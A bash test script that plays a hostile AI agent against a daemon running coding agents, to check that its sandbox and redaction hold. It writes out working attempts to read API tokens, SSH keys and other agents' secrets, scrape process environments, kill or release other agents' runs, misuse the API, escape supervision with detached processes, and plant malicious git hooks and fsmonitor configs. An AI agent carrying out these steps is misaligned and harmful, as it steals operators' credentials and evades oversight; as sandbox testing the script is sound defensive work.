#!/usr/bin/env bash
# A hostile agent (issue 14): tries what an agent must never manage, one line per attempt:
#   "ATTACK <name>: refused" or "ATTACK <name>: ALLOWED <what it got>".
# Usage: hostile.sh MODE DATA_DIR REMOTE MARKS OPERATOR_HOME NAP [NEIGHBOUR]
#   MODE      stay (attack, then sleep until stopped) | review (attack, plant for the daemon's git, write REVIEW.md,
#             exit 0) | gate (a compound-review gate: attack, print what secrets its environment holds, exit 0)
#   DATA_DIR  the daemon's data directory (an attacker may guess it)
#   REMOTE    a local bare repository the attacker tries to push to
#   MARKS     where planted programs write a marker when something runs them
#   OPERATOR_HOME  the daemon's HOME (its .netrc, .ssh, .git-credentials)
#   NAP       the escapees sleep NAP+1, NAP+2, NAP+3 seconds (a test finds them by it)
#   NEIGHBOUR another agent's declared working directory (its checkout, a secret.txt in it); none: not tried
# Every secret it finds it prints: redaction (and the sandbox) must keep it out of every output. Its own
# secret ($HOSTILE_SECRET, from fleet.yaml env) it prints across the output pump's read boundaries.
mode=${1:-stay} data=${2:-/nonexistent} remote=${3:-/nonexistent} marks=${4:-/nonexistent} operator=${5:-/root} nap=${6:-100100} neighbour=${7:-}
result() { # name exit-status [what]
  if [ "$2" = 0 ]; then echo "ATTACK $1: ALLOWED ${3:-}"; else echo "ATTACK $1: refused"; fi
}

# --- the daemon's data directory: its API token, its database, other agents' logs
token=$(cat "$data/token" 2>/dev/null)
result read-token "$([ -n "$token" ]; echo $?)" "$token"
walked=""
for path in "$TMPDIR/../../../token" "$TMPDIR/../../token" "$TMPDIR/../token" "$HOME/../../../token" "$HOME/../../../data/token"; do
  walked=$(cat "$path" 2>/dev/null) && [ -n "$walked" ] && { token=$walked; break; }
done
result walk-up-to-token "$([ -n "$walked" ]; echo $?)" "$walked"
db=$(find "$data" -maxdepth 1 -name '*.db' 2>/dev/null | head -1)
head -c 16 "${db:-$data/darkfactory.db}" >/dev/null 2>&1; result read-database $?
result list-logs "$([ -n "$(ls -A "$data/logs" 2>/dev/null)" ]; echo $?)" "$(ls "$data/logs" 2>/dev/null | tr '\n' ' ')"

# --- another agent's run directory (its default working directory), the review worktrees, the operator's HOME
# run roots an attacker may guess (RunDirectories: DF_RUN_DIR, $XDG_RUNTIME_DIR/darkfactory/ID, <tmp>/df-runs-UID/ID)
roots=$(ls -d /tmp/df-runs-*/* "${XDG_RUNTIME_DIR:-/run/user/0}"/darkfactory/* 2>/dev/null)
case "$HOME" in */df-runs-*/*|*/darkfactory/*) roots="$roots $(cd "$HOME/../.." 2>/dev/null && pwd)" ;; esac
stolen=$(for r in $roots; do cat "$r"/*/*/secret.txt; done 2>/dev/null)
result read-other-run "$([ -n "$stolen" ]; echo $?)" "$stolen"
others=$(for r in $roots; do for d in "$r"/*/*; do [ -d "$d" ] && [ "$d" != "$(cd "$HOME" 2>/dev/null && pwd)" ] && echo "$d"; done; done 2>/dev/null)
result list-other-runs "$([ -n "$others" ]; echo $?)" "$others"
others=$(for e in "$data"/worktrees/*; do [ -e "$e" ] && case "$PWD/" in "$e"/*) ;; *) echo "$e" ;; esac; done)
result list-worktrees "$([ -n "$others" ]; echo $?)" "$others" # its own worktree (a review's) it sees
if [ -n "$neighbour" ]; then
  stolen=$(cat "$neighbour"/secret.txt 2>/dev/null; ls -A "$neighbour" 2>/dev/null)
  result read-other-workdir "$([ -n "$stolen" ]; echo $?)" "$stolen"
fi
creds=$(cat "$operator/.netrc" "$operator/.git-credentials" "$operator"/.ssh/id_* 2>/dev/null)
result read-operator-home "$([ -n "$creds" ]; echo $?)" "$creds"

# --- the daemon's own environment (provider keys, forge token) through /proc
found=""
for p in /proc/[0-9]*; do
  if tr '\0' ' ' < "$p/cmdline" 2>/dev/null | grep -q "df.dll up"; then
    found=$(tr '\0' '\n' < "$p/environ" 2>/dev/null | grep -E "KEY|TOKEN" | tr '\n' ' ')
    [ -n "$found" ] && break
  fi
done
result read-daemon-environ "$([ -n "$found" ]; echo $?)" "$found"
result env-credentials "$(env | grep -qE "GITHUB_TOKEN|GH_TOKEN|DF_TEST_PROVIDER_KEY|DF_TEST_FORGE_TOKEN"; echo $?)"

# --- another agent's standby (its next run, spawned and waiting in a shell on its stdin): release it early by
# writing "go" into that stdin through /proc, or kill it
reached=""
for p in /proc/[0-9]*; do
  if tr '\0' ' ' 2>/dev/null < "$p/cmdline" | grep -q "^/bin/sh -c read -r g[o]"; then
    { echo go > "$p/fd/0"; } 2>/dev/null && reached="$reached released ${p#/proc/}"
    kill -9 "${p#/proc/}" 2>/dev/null && reached="$reached killed ${p#/proc/}"
  fi
done
result reach-standby "$([ -n "$reached" ]; echo $?)" "$reached"

# --- the API (plain HTTP over bash's /dev/tcp): a stolen or guessed operator token, the run's own token beyond its scope
api=${DF_API_URL:-http://127.0.0.1:1}
hostport=${api#http://}; hostport=${hostport%%/*}
code() { # METHOD TOKEN PATH -> the status code, or 000 when nothing answers
  exec 3<>"/dev/tcp/${hostport%:*}/${hostport##*:}" 2>/dev/null || { echo 000; return; }
  printf '%s %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n' "$1" "$3" "$hostport" "$2" >&3
  local status; read -r _ status _ <&3; exec 3<&-; echo "${status:-000}"
}
if [ -n "$token" ]; then
  c=$(code POST "$token" /api/agents/victim/stop); result api-stolen-token "$([ "$c" = 200 ]; echo $?)" "$c"
fi
c=$(code POST "guessed-token-0000000000000000" /api/agents/victim/stop); result api-guessed-token "$([ "${c:0:1}" = 2 ]; echo $?)" "$c"
c=$(code POST "${DF_API_TOKEN:-none}" /api/agents/victim/stop); result api-run-token-stop-other "$([ "${c:0:1}" = 2 ]; echo $?)" "$c"
c=$(code POST "${DF_API_TOKEN:-none}" /api/reload); result api-run-token-reload "$([ "${c:0:1}" = 2 ]; echo $?)" "$c"
c=$(code GET "${DF_API_TOKEN:-none}" /api/agents/victim/logs); result api-run-token-other-logs "$([ "${c:0:1}" = 2 ]; echo $?)" "$c"
c=$(code POST "${DF_API_TOKEN:-none}" /api/agents/victim/start); result api-run-token-start-safety-agent "$([ "${c:0:1}" = 2 ]; echo $?)" "$c"
echo "API own-token status read: $(code GET "${DF_API_TOKEN:-none}" /api/agents)"

# --- secrets across the pump's read boundaries: long lines, split writes (a gate prints what its environment holds)
if [ "$mode" = gate ]; then
  echo "gate environment secrets: $(env | grep -iE 'key|token|secret|password' | tr '\n' ' ')"
fi
secret=${HOSTILE_SECRET:-none}
[ "$mode" != gate ] && {
for size in 4096 65536 131072; do
  for offset in 1 7 $(( ${#secret} - 1 )); do
    { head -c $(( size - offset )) /dev/zero | tr '\0' 'a'; printf '%s' "${secret:0:offset}"; }
    printf '%s tail\n' "${secret:offset}"
  done
done
for (( i = 0; i < ${#secret}; i++ )); do printf '%s' "${secret:i:1}"; done; echo " (one byte per write)"
echo "secret in the middle of a line: [$secret]"
}

# --- pushing: by remote name, by URL, --no-verify, a local bare remote, ssh; credentials to push with
if git rev-parse --git-dir >/dev/null 2>&1; then
  git push --quiet origin HEAD:refs/heads/hostile-by-name >/dev/null 2>&1; result push-by-name $?
  url=$(git remote get-url origin 2>/dev/null)
  git push --quiet --no-verify "${url:-$remote}" HEAD:refs/heads/hostile-by-url >/dev/null 2>&1; result push-by-url-no-verify $?
fi
tmp=$(mktemp -d) && git -C "$tmp" init -q && git -C "$tmp" -c user.name=h -c user.email=h@h commit -q --allow-empty -m x
git -C "$tmp" push --quiet --no-verify "$remote" HEAD:refs/heads/hostile-local-bare >/dev/null 2>&1; result push-local-bare $?
if [ -d "$remote/hooks" ]; then # a remote the agent cannot even see (outside its sandbox) is refused too
  { echo '#!/bin/sh' > "$remote/hooks/post-receive"; } 2>/dev/null; result write-remote-hooks $?
else
  result write-remote-hooks 1
fi
GIT_SSH_COMMAND="ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no" \
  git push --quiet ssh://git@127.0.0.1:22/x HEAD:refs/heads/x >/dev/null 2>&1; result push-ssh $?
ls ~/.ssh/id_* /root/.ssh/id_* >/dev/null 2>&1; result find-ssh-keys $?
[ -n "$SSH_AUTH_SOCK" ]; result ssh-agent $?
git config --global credential.helper >/dev/null 2>&1; result credential-helper $?

# --- escaping supervision: a cleared environment in a new session, and a double fork
env -i setsid sleep $(( nap + 1 )) </dev/null >/dev/null 2>&1 &
( sleep $(( nap + 2 )) </dev/null >/dev/null 2>&1 & )
( env -i setsid bash -c "sleep $(( nap + 3 )) </dev/null >/dev/null 2>&1 &" </dev/null >/dev/null 2>&1 )
echo "hostile: escapees started"

# --- planting in the repository the daemon's git reads: fsmonitor, hooks, filters, ssh, includes
if [ "$mode" = review ]; then
  evil="$PWD/.evil.sh"
  printf '#!/bin/sh\necho "$0 $*" > %s/mark-$$\ncat\n' "$marks" > "$evil"; chmod +x "$evil"
  git config core.fsmonitor "$evil" 2>/dev/null; result plant-shared-config $?
  git config --worktree core.fsmonitor "$evil" 2>/dev/null; result plant-worktree-config $?
  common=$(git rev-parse --git-common-dir)
  for h in pre-commit post-commit reference-transaction post-checkout pre-push; do cp "$evil" "$common/hooks/$h" 2>/dev/null; done
  result plant-shared-hooks "$([ -x "$common/hooks/pre-commit" ]; echo $?)"
  # what lands in the worktree itself: the daemon's git must not obey any of it
  mkdir -p .evil-hooks && for h in pre-commit post-commit reference-transaction post-checkout pre-push; do cp "$evil" ".evil-hooks/$h"; done
  printf '[core]\n\tfsmonitor = %s\n\thooksPath = %s\n\tsshCommand = %s\n[filter "evil"]\n\tclean = %s\n\tsmudge = %s\n\tprocess = %s\n[diff "evil"]\n\ttextconv = %s\n' \
    "$evil" "$PWD/.evil-hooks" "$evil" "$evil" "$evil" "$evil" "$evil" > .evil.cfg
  echo '* filter=evil diff=evil merge=evil' > .gitattributes
  printf '%s\n' "${DF_TASK:-no task}" > REVIEW.md
  echo "summary: hostile review done"
  exit 0
fi
if [ "$mode" = gate ]; then
  echo "hostile gate: done"
  exit 0
fi
echo "hostile: done, staying"
exec sleep 100000
